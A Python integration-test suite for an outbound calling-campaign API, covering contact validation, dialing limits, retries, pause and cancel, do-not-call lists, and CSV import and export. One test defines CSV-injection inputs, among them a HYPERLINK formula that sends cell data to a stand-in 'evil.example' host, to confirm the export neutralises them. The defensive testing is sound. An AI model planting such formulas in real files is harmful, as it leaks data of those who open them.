"""Campaigns end to end over HTTP against a real `outbound serve` (its SQS queues, the table's
stream and the Scheduler run locally): contacts with per-row errors, dialing within slots,
retries, pause/resume/cancel, a 402 pause, do-not-call, CSV import and export, and isolation.
Calls are ended by the providers' signed status webhooks (`outbound emulate-call`)."""
from __future__ import annotations

import csv
import io
import itertools
import subprocess
import time
from datetime import datetime, timezone

import pytest
import requests

from tests.conftest import OUTBOUND, ROOT, wait_for

pytestmark = pytest.mark.integration

KEY, THRIFTY_KEY = "sk_test_dialer", "sk_test_thrifty"
FROM, THRIFTY_FROM = "+15551235101", "+15551235201"
_numbers = itertools.count(1)
ALL_DAYS = ["mon", "tue", "wed", "thu", "fri", "sat", "sun"]


def number() -> str:
    """A destination no other test calls (+1555 556 xxxx is this module's: no zone of its own, so
    the contact's zone alone sets its calling window)."""
    return f"+1555556{next(_numbers):04d}"


def daytime_zone() -> str:
    """A zone where it is around noon now (the legal floor allows 08:00-21:00 only)."""
    offset = 12 - datetime.now(timezone.utc).hour
    offset = offset - 24 if offset > 14 else offset + 24 if offset < -12 else offset
    return f"Etc/GMT{-offset:+d}" if offset else "UTC"


def night_zone() -> str:
    offset = 2 - datetime.now(timezone.utc).hour  # around 02:00 local
    offset = offset - 24 if offset > 14 else offset + 24 if offset < -12 else offset
    return f"Etc/GMT{-offset:+d}" if offset else "UTC"


@pytest.fixture(scope="module")
def api(server):
    done = subprocess.run([*OUTBOUND, "seed", str(ROOT / "tests" / "fixtures" / "campaigns.json"),
                           "--local-server", server.url], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return server


def call(server, method, path, body=None, key=KEY, headers=None):
    return server.request(method, path, body, key=key, headers=headers)


def campaign_body(**overrides):
    body = {"name": "Reminders", "from_phone_number": FROM, "variables": {"what": "your visit"},
            "calling_window": {"days": ALL_DAYS, "start": "08:00", "end": "21:00"}, "timezone": "UTC",
            "retry_policy": {"max_attempts": 1, "delays_minutes": [0], "retry_on": ["busy", "no-answer", "failed"]},
            "pacing": {"max_concurrent_calls": 5, "calls_per_minute": 600}}
    body.update(overrides)
    return body


def contact(phone=None, **extra):
    return {"phone_number": phone or number(), "variables": {"name": "Ada"}, "timezone": daytime_zone(), **extra}


def create(server, key=KEY, **overrides) -> str:
    response = call(server, "POST", "/campaigns", campaign_body(**overrides), key=key)
    assert response.status_code == 201, response.text
    return response.json()["campaign_id"]


def add(server, campaign_id, contacts, key=KEY, headers=None):
    response = call(server, "POST", f"/campaigns/{campaign_id}/contacts", {"contacts": contacts}, key=key,
                    headers=headers)
    assert response.status_code == 200, response.text
    return response.json()


def get(server, campaign_id, key=KEY) -> dict:
    response = call(server, "GET", f"/campaigns/{campaign_id}", key=key)
    assert response.status_code == 200, response.text
    return response.json()


def _record(server, call_id) -> dict:
    response = call(server, "GET", f"/calls/{call_id}")
    return response.json() if response.status_code == 200 else {}


def campaign_calls(server, campaign_id) -> list[dict]:
    """The campaign's attempts' call records, through the contacts' call ids."""
    ids = [cid for c in contacts_of(server, campaign_id) for cid in [*c["call_ids"], c["current_call_id"]] if cid]
    return [r for r in (_record(server, cid) for cid in ids) if r]


def contacts_of(server, campaign_id, status=None, key=KEY) -> list[dict]:
    found, token = [], None
    while True:
        query = f"?limit=100{'&status=' + status if status else ''}{'&next_token=' + token if token else ''}"
        body = call(server, "GET", f"/campaigns/{campaign_id}/contacts{query}", key=key).json()
        found += body["contacts"]
        token = body["next_token"]
        if not token:
            return found


def end(server, call_id, outcome="completed", duration=30):
    done = subprocess.run([*OUTBOUND, "emulate-call", call_id, "--outcome", outcome, "--duration", str(duration),
                           "--server", server.url], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stdout + done.stderr


def placed_calls(server, campaign_id) -> list[dict]:
    placed = requests.get(server.url + "/_local/provider-calls", timeout=10).json()
    return [r for r in campaign_calls(server, campaign_id) if r["call_id"] in placed]


# --- contacts -----------------------------------------------------------------------------------------

def test_contacts_are_checked_row_by_row_without_dropping_the_valid_ones(api):
    campaign_id = create(api, welcome_message="Hi {{name}}")
    good, twice = number(), number()
    result = add(api, campaign_id, [
        contact(good), {"phone_number": "555-1234"}, {"phone_number": number()},  # bad format; no {{name}}
        contact(twice), contact(twice), contact("+19005550100"),  # premium rate: not permitted
    ])
    assert result["added"] == 2
    errors = {e["index"]: e["error"] for e in result["errors"]}
    assert errors == {1: "Invalid phone number format. Use E.164 format (e.g., +1234567890)",
                      2: "Missing template variables: name",
                      4: f"Duplicate: {twice} appears twice in this request",
                      5: "Destination +19005550100 is not permitted for your organization"}
    again = add(api, campaign_id, [contact(good)])  # a later request: the same contact again
    assert again["added"] == 0 and again["errors"][0]["error"] == f"Duplicate: {good} is already a contact of this campaign"
    progress = get(api, campaign_id)["progress"]
    assert progress["contacts_total"] == 2 and progress["by_status"]["pending"] == 2


def test_adding_contacts_honours_idempotency_key(api):
    campaign_id = create(api)
    rows = [contact(), contact()]
    first = call(api, "POST", f"/campaigns/{campaign_id}/contacts", {"contacts": rows}, headers={"Idempotency-Key": "k-1"})
    again = call(api, "POST", f"/campaigns/{campaign_id}/contacts", {"contacts": rows}, headers={"Idempotency-Key": "k-1"})
    assert first.status_code == again.status_code == 200
    assert again.json() == first.json() and again.headers.get("Idempotent-Replayed") == "true"
    other = call(api, "POST", f"/campaigns/{campaign_id}/contacts", {"contacts": [contact()]},
                 headers={"Idempotency-Key": "k-1"})
    assert other.status_code == 422
    assert get(api, campaign_id)["progress"]["contacts_total"] == 2


def test_campaign_validation_answers_400_naming_the_field(api):
    response = call(api, "POST", "/campaigns", campaign_body(pacing={"max_concurrent_calls": 0, "calls_per_minute": 5}))
    assert response.status_code == 400
    assert response.json()["detail"].startswith("pacing.max_concurrent_calls:")
    window = call(api, "POST", "/campaigns", campaign_body(calling_window={"days": ["mon"], "start": "21:30",
                                                                           "end": "23:00"}))
    assert window.status_code == 400 and "08:00-21:00" in window.json()["detail"]
    foreign = call(api, "POST", "/campaigns", campaign_body(from_phone_number="+15551234567"))
    assert foreign.status_code == 403


def test_another_organizations_campaign_is_a_404(api):
    campaign_id = create(api)
    for method, path in (("GET", f"/campaigns/{campaign_id}"), ("POST", f"/campaigns/{campaign_id}/start"),
                         ("GET", f"/campaigns/{campaign_id}/contacts")):
        response = call(api, method, path, key=THRIFTY_KEY)
        assert response.status_code == 404 and response.json() == {"detail": f"Campaign {campaign_id} not found"}


# --- dialing ----------------------------------------------------------------------------------------------

def test_attempts_are_ordinary_calls_within_the_slots_and_the_campaign_completes(api):
    campaign_id = create(api, pacing={"max_concurrent_calls": 2, "calls_per_minute": 600})
    phones = [number() for _ in range(4)]
    add(api, campaign_id, [contact(p) for p in phones])
    assert call(api, "POST", f"/campaigns/{campaign_id}/start").json()["status"] == "running"

    first = wait_for(lambda: len(placed_calls(api, campaign_id)) == 2 and placed_calls(api, campaign_id),
                     what="two calls placed")
    time.sleep(2)  # nothing ends: no third call may start
    assert len(placed_calls(api, campaign_id)) == 2
    assert get(api, campaign_id)["progress"]["in_flight"] == 2
    record = first[0]
    contact_row = next(c for c in contacts_of(api, campaign_id) if record["call_id"] == c["current_call_id"])
    assert record["to_phone_number"] == contact_row["phone_number"] and record["assistant_id"] == 5101
    assert record["welcome_message"] == "Hi Ada, this is a reminder."  # the initiate use case rendered it
    assert record["agenda"] == "Confirm your visit."  # campaign variables as defaults

    end(api, record["call_id"])
    wait_for(lambda: len(placed_calls(api, campaign_id)) == 3, what="a third call once a slot was freed")
    for r in placed_calls(api, campaign_id):
        if r["call_id"] != record["call_id"]:
            end(api, r["call_id"])
    wait_for(lambda: len(placed_calls(api, campaign_id)) == 4, what="the fourth call")
    for r in placed_calls(api, campaign_id):
        if r["status"] not in ("completed",):
            end(api, r["call_id"])
    done = wait_for(lambda: (c := get(api, campaign_id))["status"] == "completed" and c, what="completion")
    assert done["progress"]["by_status"]["completed"] == 4 and done["progress"]["in_flight"] == 0
    assert done["progress"]["attempts"] == 4 and done["progress"]["answered"] == 4
    assert done["progress"]["talk_seconds"] == 120 and done["progress"]["charged_cents"] == 40  # 4 x 1 min x 10


def test_a_busy_contact_is_retried_per_policy_and_a_completed_one_never(api):
    campaign_id = create(api, retry_policy={"max_attempts": 2, "delays_minutes": [0], "retry_on": ["busy"]})
    busy_phone, answered_phone = number(), number()
    add(api, campaign_id, [contact(busy_phone), contact(answered_phone)])
    call(api, "POST", f"/campaigns/{campaign_id}/start")
    calls = wait_for(lambda: len(placed_calls(api, campaign_id)) == 2 and placed_calls(api, campaign_id),
                     what="two calls")
    by_phone = {r["to_phone_number"]: r for r in calls}
    end(api, by_phone[busy_phone]["call_id"], "busy")
    end(api, by_phone[answered_phone]["call_id"], "completed")
    retry = wait_for(lambda: [r for r in placed_calls(api, campaign_id)
                              if r["to_phone_number"] == busy_phone and r["call_id"] != by_phone[busy_phone]["call_id"]],
                     what="the busy contact's second attempt")
    assert retry[0]["attempt"] == 2
    end(api, retry[0]["call_id"], "busy")
    done = wait_for(lambda: (c := get(api, campaign_id))["status"] == "completed" and c, what="completion")
    statuses = {c["phone_number"]: c for c in contacts_of(api, campaign_id)}
    assert statuses[busy_phone]["status"] == "busy" and statuses[busy_phone]["attempts"] == 2  # out of attempts
    assert len(statuses[busy_phone]["call_ids"]) == 2
    assert statuses[answered_phone]["status"] == "completed" and statuses[answered_phone]["attempts"] == 1
    assert done["progress"]["attempts"] == 3


def test_pause_stops_new_dials_while_calls_in_flight_settle_and_resume_goes_on(api):
    campaign_id = create(api, pacing={"max_concurrent_calls": 1, "calls_per_minute": 600})
    add(api, campaign_id, [contact(), contact()])
    call(api, "POST", f"/campaigns/{campaign_id}/start")
    [first] = wait_for(lambda: placed_calls(api, campaign_id), what="the first call")
    paused = call(api, "POST", f"/campaigns/{campaign_id}/pause").json()
    assert paused["status"] == "paused" and paused["paused_reason"] == "manual"
    end(api, first["call_id"])
    wait_for(lambda: _record(api, first["call_id"]).get("settled_at"), what="the call in flight to settle")
    wait_for(lambda: get(api, campaign_id)["progress"]["in_flight"] == 0, what="its slot to be given back")
    time.sleep(3)
    assert len(placed_calls(api, campaign_id)) == 1  # paused: no new dial
    assert call(api, "POST", f"/campaigns/{campaign_id}/resume").json()["status"] == "running"
    wait_for(lambda: len(placed_calls(api, campaign_id)) == 2, what="the next call after resume")


def test_cancel_ends_waiting_contacts_canceled_and_lets_the_call_in_flight_finish(api):
    campaign_id = create(api, pacing={"max_concurrent_calls": 1, "calls_per_minute": 600})
    add(api, campaign_id, [contact(), contact(), contact()])
    call(api, "POST", f"/campaigns/{campaign_id}/start")
    [first] = wait_for(lambda: placed_calls(api, campaign_id), what="the first call")
    assert call(api, "POST", f"/campaigns/{campaign_id}/cancel").json()["status"] == "canceled"
    wait_for(lambda: get(api, campaign_id)["progress"]["by_status"]["canceled"] == 2, what="waiting contacts canceled")
    end(api, first["call_id"], "busy")
    done = wait_for(lambda: (c := get(api, campaign_id))["progress"]["in_flight"] == 0 and c, what="the last call's end")
    assert done["progress"]["by_status"]["busy"] == 1 and len(placed_calls(api, campaign_id)) == 1
    assert call(api, "POST", f"/campaigns/{campaign_id}/resume").status_code == 409


def test_insufficient_balance_pauses_without_burning_the_attempt_and_a_credit_resumes(api):
    """100 cents, one reserve: the second dial waits while the first call holds the reserve (the
    shortfall is only a reserve in flight), and pauses the campaign once that call is charged and
    the balance itself cannot cover a call; a credit resumes it (outbound admin credit)."""
    campaign_id = create(api, key=THRIFTY_KEY, from_phone_number=THRIFTY_FROM, variables={},
                         pacing={"max_concurrent_calls": 2, "calls_per_minute": 600})
    add(api, campaign_id, [contact(), contact()], key=THRIFTY_KEY)
    call(api, "POST", f"/campaigns/{campaign_id}/start", key=THRIFTY_KEY)
    def placed_ids():
        placed = requests.get(api.url + "/_local/provider-calls", timeout=10).json()
        return [cid for c in contacts_of(api, campaign_id, key=THRIFTY_KEY)
                for cid in [*c["call_ids"], c["current_call_id"]] if cid in placed]

    [first] = wait_for(placed_ids, what="the first call")
    end(api, first)  # 10 cents charged: 90 left, less than one reserve
    paused = wait_for(lambda: (c := get(api, campaign_id, THRIFTY_KEY))["status"] == "paused"
                      and c["progress"]["in_flight"] == 0 and c, what="the campaign paused for balance")
    assert paused["paused_reason"] == "insufficient_balance"
    waiting = [c for c in contacts_of(api, campaign_id, key=THRIFTY_KEY) if c["status"] == "pending"]
    assert len(waiting) == 1 and waiting[0]["attempts"] == 0  # back to waiting, its attempt not counted
    api.add_funds("org_thrifty", 1000)
    wait_for(lambda: get(api, campaign_id, THRIFTY_KEY)["status"] == "running", what="resumed by the credit")
    wait_for(lambda: len(placed_ids()) == 2, what="the second call after the credit")
    progress = get(api, campaign_id, THRIFTY_KEY)["progress"]
    assert progress["attempts"] + progress["in_flight"] == 2  # the refused attempts were not counted (attempts: ended)


def test_a_suppressed_number_is_never_called(api):
    phone = number()
    assert call(api, "POST", "/suppressions", {"phone_number": phone, "reason": "asked"}).status_code == 201
    refused = call(api, "POST", "/calls/initiate", {"from_phone_number": FROM, "to_phone_number": phone})
    assert refused.status_code == 403
    assert refused.json() == {"detail": f"Destination {phone} is on your organization's do-not-call list"}
    campaign_id = create(api)
    result = add(api, campaign_id, [contact(phone)])
    assert result["contacts"][0]["status"] == "suppressed"
    listed = call(api, "GET", "/suppressions?limit=100").json()["suppressions"]
    assert phone in [s["phone_number"] for s in listed]
    assert call(api, "GET", "/suppressions", key=THRIFTY_KEY).json()["suppressions"] == []  # organization-wide only
    assert call(api, "DELETE", f"/suppressions/{phone.replace('+', '%2B')}").status_code == 200
    again = call(api, "POST", "/calls/initiate", {"from_phone_number": FROM, "to_phone_number": phone,
                                                  "variables": {"name": "Ada", "what": "the visit"}})
    assert again.status_code == 200, again.text


def test_a_contact_suppressed_after_it_was_added_ends_suppressed_with_no_call(api):
    phone = number()
    campaign_id = create(api)
    add(api, campaign_id, [contact(phone)])
    call(api, "POST", "/suppressions", {"phone_number": phone})
    call(api, "POST", f"/campaigns/{campaign_id}/start")
    wait_for(lambda: get(api, campaign_id)["status"] == "completed", what="completion")
    [row] = contacts_of(api, campaign_id)
    assert row["status"] == "suppressed" and row["call_ids"] == [] and row["attempts"] == 0  # no call
    assert row["final_reason"] == f"Destination {phone} is on your organization's do-not-call list"


def test_outside_the_calling_window_a_contact_waits_for_it(api):
    campaign_id = create(api)
    result = add(api, campaign_id, [{"phone_number": number(), "variables": {"name": "Night"}, "timezone": night_zone()}])
    assert result["contacts"][0]["status"] == "waiting_window"
    call(api, "POST", f"/campaigns/{campaign_id}/start")
    time.sleep(3)
    assert placed_calls(api, campaign_id) == []
    [row] = contacts_of(api, campaign_id)
    local = datetime.fromisoformat(row["next_attempt_at"].replace("Z", "+00:00"))
    from zoneinfo import ZoneInfo
    assert local.astimezone(ZoneInfo(night_zone())).strftime("%H:%M") == "08:00"
    call(api, "POST", f"/campaigns/{campaign_id}/cancel")


# --- import and export -----------------------------------------------------------------------------------

def test_csv_import_adds_rows_and_reports_row_errors(api):
    campaign_id = create(api)
    zone = daytime_zone()
    good = [number() for _ in range(3)]
    text = "phone_number,name,timezone,external_id\n" + "".join(f"{p},Row{i},{zone},ext-{i}\n" for i, p in enumerate(good))
    text += "12345,Bad,,\n" + f"{good[0]},Dup,,\n"
    created = call(api, "POST", f"/campaigns/{campaign_id}/imports")
    assert created.status_code == 201, created.text
    upload = created.json()
    put = requests.put(upload["upload_url"], data=text.encode(), headers=upload["upload_headers"], timeout=30)
    assert put.status_code == 200, put.text
    done = wait_for(lambda: (i := call(api, "GET", f"/campaigns/{campaign_id}/imports/{upload['import_id']}").json())
                    ["status"] in ("completed", "failed") and i, what="the import")
    assert done["status"] == "completed" and done["rows_processed"] == 5 and done["added"] == 3
    assert [(e["row"], e["error"]) for e in done["errors"]] == [
        (5, "Invalid phone number format. Use E.164 format (e.g., +1234567890)"),
        (6, f"Duplicate: {good[0]} appears twice in this request")]
    rows = {c["phone_number"]: c for c in contacts_of(api, campaign_id)}
    assert rows[good[1]]["external_id"] == "ext-1" and rows[good[1]]["variables"] == {"name": "Row1"}


def test_results_csv_lists_every_contact_with_its_outcome(api):
    campaign_id = create(api)
    phones = [number(), number()]
    add(api, campaign_id, [contact(p, external_id=f"e{i}") for i, p in enumerate(phones)])
    call(api, "POST", f"/campaigns/{campaign_id}/start")
    calls = wait_for(lambda: len(placed_calls(api, campaign_id)) == 2 and placed_calls(api, campaign_id), what="calls")
    for r in calls:
        end(api, r["call_id"], "no-answer")
    wait_for(lambda: get(api, campaign_id)["status"] == "completed", what="completion")
    response = call(api, "GET", f"/campaigns/{campaign_id}/results.csv")
    assert response.status_code == 200 and response.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert sorted(r["phone_number"] for r in rows) == sorted(phones)
    assert {r["status"] for r in rows} == {"no_answer"} and {r["external_id"] for r in rows} == {"e0", "e1"}
    assert all(r["call_ids"].startswith("call_") for r in rows)


def test_contacts_list_by_status_pages_without_a_scan(api):
    campaign_id = create(api)
    add(api, campaign_id, [contact() for _ in range(5)])
    before = api.dynamodb_operations()
    page = call(api, "GET", f"/campaigns/{campaign_id}/contacts?status=pending&limit=2").json()
    assert len(page["contacts"]) == 2 and page["next_token"]
    rest = call(api, "GET", f"/campaigns/{campaign_id}/contacts?status=pending&limit=10&next_token={page['next_token']}").json()
    assert len(rest["contacts"]) == 3
    assert api.dynamodb_operations().get("Scan", 0) == before.get("Scan", 0)
    bad = call(api, "GET", f"/campaigns/{campaign_id}/contacts?status=nope")
    assert bad.status_code == 400


# --- outcome events --------------------------------------------------------------------------------------

def test_campaign_events_reach_a_subscribed_endpoint_signed(api):
    """campaign.status_changed and campaign.contact_finalized, like a call's events: signed per
    Standard Webhooks (verified with its own verifier), with the contact's external_id and metadata."""
    import json as jsonlib

    from standardwebhooks.webhooks import Webhook

    name = f"campaign-{time.time_ns()}"
    endpoint = call(api, "POST", "/webhook-endpoints", {
        "url": f"{api.url}/_local/webhook-receiver/{name}", "events": ["campaign.status_changed",
                                                                        "campaign.contact_finalized"]})
    assert endpoint.status_code == 201, endpoint.text
    campaign_id = create(api)
    phone = number()
    add(api, campaign_id, [contact(phone, external_id="patient-7", metadata={"clinic": "north"})])
    call(api, "POST", f"/campaigns/{campaign_id}/start")
    [attempt] = wait_for(lambda: placed_calls(api, campaign_id), what="the call")
    assert attempt["external_id"] == "patient-7" and attempt["metadata"] == {"clinic": "north"}
    end(api, attempt["call_id"])

    def arrived():
        got = requests.get(f"{api.url}/_local/webhook-receiver/{name}", timeout=10).json()["received"]
        types = [jsonlib.loads(r["body"])["type"] for r in got]
        return got if "campaign.contact_finalized" in types and types.count("campaign.status_changed") >= 2 else None

    received = wait_for(arrived, timeout=30, what="the campaign's events")
    verifier = Webhook(endpoint.json()["secret"])
    events = [verifier.verify(r["body"], r["headers"]) for r in received]
    statuses = [e["data"]["status"] for e in events if e["type"] == "campaign.status_changed"]
    assert statuses[0] == "running" and statuses[-1] == "completed"
    [finalized] = [e for e in events if e["type"] == "campaign.contact_finalized"]
    assert finalized["data"]["campaign_id"] == campaign_id and finalized["data"]["status"] == "completed"
    assert finalized["data"]["external_id"] == "patient-7" and finalized["data"]["metadata"] == {"clinic": "north"}


HOSTILE_IDS = {  # what a contact's free text may hold -> what the export must show
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")': '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)": "'@SUM(1+1)", "+1+1": "'+1+1", "-1+1": "'-1+1", "\t=1+1": "'\t=1+1", "\r=1+1": "'\r=1+1",
    "a\rb": "a\rb", "first\nsecond": "first\nsecond", 'say "hi", then, go': 'say "hi", then, go',
    "-42": "-42", "+15551234567": "+15551234567", "plain-id": "plain-id"}


def test_results_csv_neutralises_formulas_and_keeps_each_contact_one_row(api):
    """RFC 4180 (CRLF rows; a cell with a comma, quote, CR or LF quoted) and OWASP's CSV-injection
    rule: a cell starting with = + - @ tab or CR gets a leading '. A plain number (an E.164
    number, -42) is written as it is: it cannot be a formula."""
    campaign_id = create(api)
    phones = {external_id: number() for external_id in HOSTILE_IDS}
    add(api, campaign_id, [contact(phones[e], external_id=e) for e in HOSTILE_IDS])
    response = call(api, "GET", f"/campaigns/{campaign_id}/results.csv")
    assert response.status_code == 200, response.text
    assert response.content.endswith(b"\r\n") and response.content.count(b"\r\n") == len(HOSTILE_IDS) + 1
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert len(rows) == len(HOSTILE_IDS) + 1 and all(len(r) == len(rows[0]) for r in rows)
    written = {r[rows[0].index("phone_number")]: r[rows[0].index("external_id")] for r in rows[1:]}
    assert written == {phones[e]: shown for e, shown in HOSTILE_IDS.items()}


def run_import(server, campaign_id, data: bytes) -> dict:
    """Create an import, PUT ``data`` to its presigned URL, and wait until it is finished."""
    created = call(server, "POST", f"/campaigns/{campaign_id}/imports")
    assert created.status_code == 201, created.text
    upload = created.json()
    put = requests.put(upload["upload_url"], data=data, headers=upload["upload_headers"], timeout=60)
    assert put.status_code == 200, put.text
    return wait_for(lambda: (i := call(server, "GET", f"/campaigns/{campaign_id}/imports/{upload['import_id']}").json())
                    ["status"] in ("completed", "failed") and i, timeout=60, what="the import to finish")


def test_an_oversized_field_or_row_is_a_row_error_and_the_other_rows_are_imported(api):
    """A field past the csv module's own limit (131,072 characters) and a row past the import's
    (65,536) are row errors with their row numbers, like any other; the import completes."""
    campaign_id = create(api)
    zone, good = daytime_zone(), [number() for _ in range(3)]
    text = "".join(f"{phone},{zone},{name},{notes}\n" for phone, name, notes in [
        (good[0], "Ada", "ok"),
        (number(), "Bo", "x" * 200_001),  # row 3: past the csv module's field limit and the row limit
        (good[1], "Cy", ""),
        (number(), "Di", "y" * 1_001),  # row 5: past a variable's own limit
        (number(), "Ed", '"' + "z," * 40_000 + '"'),  # row 6: one quoted field of commas, past the row limit
        (good[2], "Flo", "ok")])
    done = run_import(api, campaign_id, ("phone_number,timezone,name,notes\n" + text).encode())
    summary = (done["status"], done["rows_processed"], done["added"], done["error_count"])
    assert summary == ("completed", 6, 3, 3), done["errors"]
    errors = {e["row"]: e["error"] for e in done["errors"]}
    assert sorted(errors) == [3, 5, 6]
    assert "200,0" in errors[3] and "at most 65,536 characters" in errors[3]
    assert "1000 characters" in errors[5]  # a variable's own limit
    assert "at most 65,536 characters" in errors[6]
    assert sorted(c["phone_number"] for c in contacts_of(api, campaign_id)) == sorted(good)


TOO_LARGE = 20 * 1024 * 1024 + 1


@pytest.mark.parametrize("data, reason", [
    (b"phone_number,name\n+12125559001,Ana\n+12125559002,Jos\xe9\n", "Line 3 is not UTF-8 text"),
    (b"", "The file is empty"),
    (b"number,name\n+12125559003,Ada\n", "phone_number"),
    (b"phone_number," + b"n" * 65 + b"\n+12125559004,x\n", "at most 64 characters"),
    (b"phone_number,notes\n+12125559005," + b"x" * TOO_LARGE + b"\n", "at most 20 MiB"),
    (b"phone_number\n" + b"+12125559006\n" * 100_001, "at most 100,000 rows"),
], ids=["not-utf8", "empty", "no-phone-column", "long-column-name", "too-large", "too-many-rows"])
def test_a_file_that_cannot_be_imported_fails_with_a_reason_and_adds_nothing(api, data, reason):
    campaign_id = create(api)
    done = run_import(api, campaign_id, data)
    assert done["status"] == "failed" and reason in done["failure"], done
    assert done["added"] == 0 and contacts_of(api, campaign_id) == []
